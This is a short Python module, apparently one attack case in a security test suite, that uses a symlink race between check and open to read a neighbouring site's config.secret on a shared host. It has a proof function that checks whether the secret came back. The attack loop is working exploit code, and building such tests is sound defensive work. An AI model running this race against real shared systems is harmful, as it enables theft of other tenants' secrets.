"""Swap where a symbolic link leads between its check and its opening."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

HANDS = 2
SHARED = True


def attack(given: Given) -> object:
    import contextlib
    import os
    import time

    # link -> d/../NEIGHBOUR/config.secret. Where d leads to a, that is drop/NEIGHBOUR, which leads
    # to the attacker's own site; where d leads to the site, it is the neighbour's.
    name = os.path.basename(given.neighbour)
    here = given.drop
    with contextlib.suppress(FileExistsError):
        os.mkdir(f"{here}/a")
    for target, link in (("a", "d"), ("..", name), (f"d/../{name}/config.secret", "link")):
        with contextlib.suppress(FileExistsError):
            os.symlink(target, f"{here}/{link}")
    refusal: OSError | None = None
    deadline = time.monotonic() + 0.8
    while time.monotonic() < deadline:
        if given.hand:
            for target in ("..", "a"):
                os.symlink(target, f"{here}/new")
                os.rename(f"{here}/new", f"{here}/d")
            continue
        try:
            with open(f"{here}/link") as file:
                text = file.read()
        except OSError as error:
            refusal = error
            continue
        if f"secret of {name}" in text:
            return text
    if refusal:
        raise refusal
    return "in vain"


def proof(scene: Scene) -> str | None:
    return scene.brought_back(scene.secret, "the neighbour's secret")
